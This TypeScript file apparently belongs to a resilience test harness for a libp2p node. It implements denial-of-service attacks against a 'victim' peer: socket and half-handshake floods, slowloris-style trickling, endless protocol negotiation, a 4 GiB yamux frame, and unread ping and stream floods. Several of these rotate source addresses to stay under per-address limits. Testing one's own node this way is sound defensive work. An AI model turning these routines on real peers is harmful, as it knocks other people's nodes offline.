// Attacks of a stranger below the protocol: sockets, handshakes, and the frames of the muxer.
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

import type { Connection } from '@libp2p/interface'

import { INBOUND_UPGRADE_TIMEOUT_MS } from '../../../src/core/limits.ts'
import { parseEndpoint } from '../../../src/net/address.ts'
import { Foe, muxerOf, sourceOf } from '../foe.ts'
import type { Attack, Order } from '../order.ts'

/** By then the victim has given up whoever makes no handshake, also one that came late to it. */
const HOLD_MS = INBOUND_UPGRADE_TIMEOUT_MS + 4000
const PATIENCE_MS = 15_000
/** Connections that are begun in one go: the victim refuses more a second from one address. */
const BURST = 40
const MULTISTREAM = '\u0013/multistream/1.0.0\n'
const NOISE = '\u0007/noise\n'

// Of yamux: https://github.com/hashicorp/yamux/blob/master/spec.md
const DATA = 0
const WINDOW_UPDATE = 1
const PING = 2
const SYN = 1

function header(type: number, flags: number, stream: number, length: number): Buffer {
  const bytes = Buffer.alloc(12)
  bytes.writeUInt8(type, 1)
  bytes.writeUInt16BE(flags, 2)
  bytes.writeUInt32BE(stream, 4)
  bytes.writeUInt32BE(length, 8)
  return bytes
}

/** Plain sockets from several addresses, each given `first` to say. */
async function knock(
  { victim, from }: Pick<Order, 'victim' | 'from'>,
  count: number,
  first: Buffer,
): Promise<Socket[]> {
  const { host, port } = parseEndpoint(victim.address) ?? { host: '', port: 0 }
  const sockets: Socket[] = []
  for (let i = 0; i < count; i++) {
    const localAddress = sourceOf(from + Math.floor(i / BURST))
    const socket = connect({ host, port, localAddress }).on('error', () => {})
    socket.on('data', () => {})
    if (first.byteLength > 0) socket.write(first)
    sockets.push(socket)
    if (i % BURST === BURST - 1) await sleep(20)
  }
  return sockets
}

/** How many the victim closed by itself. */
async function closedIn(sockets: readonly Socket[], waitMs: number): Promise<number> {
  await sleep(waitMs)
  const closed = sockets.filter((socket) => socket.destroyed || socket.readableEnded).length
  for (const socket of sockets) socket.destroy()
  return closed
}

const idle: Attack = async ({ victim, dose, from }, atHeight) => {
  const sockets = await knock({ victim, from }, dose, Buffer.alloc(0))
  atHeight()
  return { closed: await closedIn(sockets, HOLD_MS) }
}

/** The other side waits for the rest of a Noise message of 96 bytes. */
const halfHandshake: Attack = async ({ victim, dose, from }, atHeight) => {
  const half = Buffer.concat([Buffer.from(MULTISTREAM + NOISE), Buffer.from([0, 96, 1, 2, 3, 4])])
  const sockets = await knock({ victim, from }, dose, half)
  atHeight()
  return { closed: await closedIn(sockets, HOLD_MS) }
}

/** Half handshakes, again and again: more than the victim lets wait at once. */
const handshakeStorm: Attack = async ({ victim, dose, from }, atHeight) => {
  const half = Buffer.concat([Buffer.from(MULTISTREAM + NOISE), Buffer.from([0, 96, 1, 2])])
  const sockets: Socket[] = []
  for (let begun = 0; begun < dose; begun += BURST) {
    sockets.push(...(await knock({ victim, from: from + (begun / BURST) * 2 }, BURST, half)))
    if (begun >= 400) atHeight()
    await sleep(80)
  }
  atHeight()
  return { closed: await closedIn(sockets, HOLD_MS) }
}

const oneByteASecond: Attack = async ({ victim, dose, from }, atHeight) => {
  const sockets = await knock({ victim, from }, dose, Buffer.alloc(0))
  atHeight()
  const words = Buffer.from(MULTISTREAM + NOISE)
  for (let i = 0; i < HOLD_MS / 1000; i++) {
    for (const socket of sockets) if (socket.writable) socket.write(words.subarray(i, i + 1))
    await sleep(1000)
  }
  return { closed: await closedIn(sockets, 100) }
}

/** A line of the protocol negotiation that has no end. */
const endlessNegotiation: Attack = async ({ victim, dose, from }, atHeight) => {
  const [socket] = await knock({ victim, from }, 1, Buffer.from(MULTISTREAM))
  if (!socket) return {}
  socket.write(Buffer.from([0xff, 0xff, 0xff, 0x7f]))
  atHeight()
  let sent = 0
  const chunk = Buffer.alloc(65_536, 0x61)
  while (!socket.destroyed && !socket.readableEnded && sent < dose * 1e6) {
    if (!socket.write(chunk)) await sleep(1)
    sent += chunk.byteLength
  }
  socket.destroy()
  return { sentMB: Math.round(sent / 1e6) }
}

/** Whole connections, with Noise and yamux, each of another stranger, that then say nothing. */
const connections: Attack = async ({ victim, dose, from }, atHeight) => {
  const foes = Array.from(
    { length: dose },
    (_, i) => new Foe(victim, { source: sourceOf(from + (i % 20)) }),
  )
  const dials = foes.map(async (foe, i) => {
    // Not more than the victim takes from one address in a second.
    await sleep(Math.floor(i / 20) * 50)
    await foe.connect()
  })
  atHeight()
  await Promise.allSettled(dials)
  // Whoever was refused hears of it a moment later, here, where all attacks have one process.
  const stillOpen = (): number =>
    foes.filter(({ connection }) => connection?.status === 'open').length
  let open = Infinity
  while (stillOpen() < open) {
    open = stillOpen()
    await sleep(500)
  }
  await sleep(HOLD_MS)
  return { open }
}

/** Other attacks may have taken the room that there is for strangers, for a while. */
async function getIn(foe: Foe): Promise<Connection> {
  const deadline = performance.now() + PATIENCE_MS
  for (;;) {
    try {
      const connection = await foe.connect()
      await sleep(50)
      if (connection.status === 'open') return connection
    } catch (error) {
      if (performance.now() > deadline) throw error
    }
    await sleep(200)
  }
}

const streams: Attack = async ({ victim, dose, from }, atHeight) => {
  await using foe = new Foe(victim, { source: sourceOf(from) })
  const muxer = muxerOf(await getIn(foe))
  const frames = Array.from({ length: dose }, (_, i) => header(WINDOW_UPDATE, SYN, 2 * i + 101, 0))
  muxer.send(Buffer.concat(frames))
  atHeight()
  await sleep(HOLD_MS)
  return { connected: muxer.status === 'open' }
}

/** A frame of 4 GiB, in a stream that was opened. */
const hugeMuxerFrame: Attack = async ({ victim, dose, from }, atHeight) => {
  await using foe = new Foe(victim, { source: sourceOf(from) })
  const connection = await getIn(foe)
  const muxer = muxerOf(connection)
  muxer.send(Buffer.concat([header(DATA, SYN, 1, 0xffffffff), Buffer.alloc(1000)]))
  atHeight()
  let sentMB = 0
  for (; connection.status === 'open' && sentMB < dose; sentMB++) {
    muxer.send(Buffer.alloc(1e6))
    await sleep(2)
  }
  return { sentMB, cut: connection.status !== 'open' }
}

/** Each of these is answered, and the answers are not read. */
function unread(type: number, flags: number, stream: (i: number) => number): Attack {
  return async ({ victim, dose, from }, atHeight) => {
    await using foe = new Foe(victim, { source: sourceOf(from) })
    const connection = await getIn(foe)
    const muxer = muxerOf(connection)
    muxer.pause()
    atHeight()
    const perWrite = 2000
    let sent = 0
    while (connection.status === 'open' && sent < dose) {
      const frames = Array.from({ length: perWrite }, (_, i) =>
        header(type, flags, stream(sent + i), type === PING ? sent + i : 0),
      )
      sent += perWrite
      if (!muxer.send(Buffer.concat(frames))) await drained(muxer)
      await sleep(0)
    }
    await sleep(500)
    return { sent, cut: connection.status !== 'open' }
  }
}

async function drained(muxer: ReturnType<typeof muxerOf>): Promise<void> {
  while (muxer.writableNeedsDrain && muxer.status === 'open') await sleep(1)
}

export const SOCKETS: Readonly<Record<string, Attack>> = {
  idle,
  halfHandshake,
  handshakeStorm,
  oneByteASecond,
  endlessNegotiation,
  connections,
  streams,
  hugeMuxerFrame,
  muxerPings: unread(PING, SYN, () => 0),
  muxerStreams: unread(WINDOW_UPDATE, SYN, (i) => 2 * i + 101),
  muxerUpdates: unread(WINDOW_UPDATE, 0, (i) => 2 * i + 101),
}
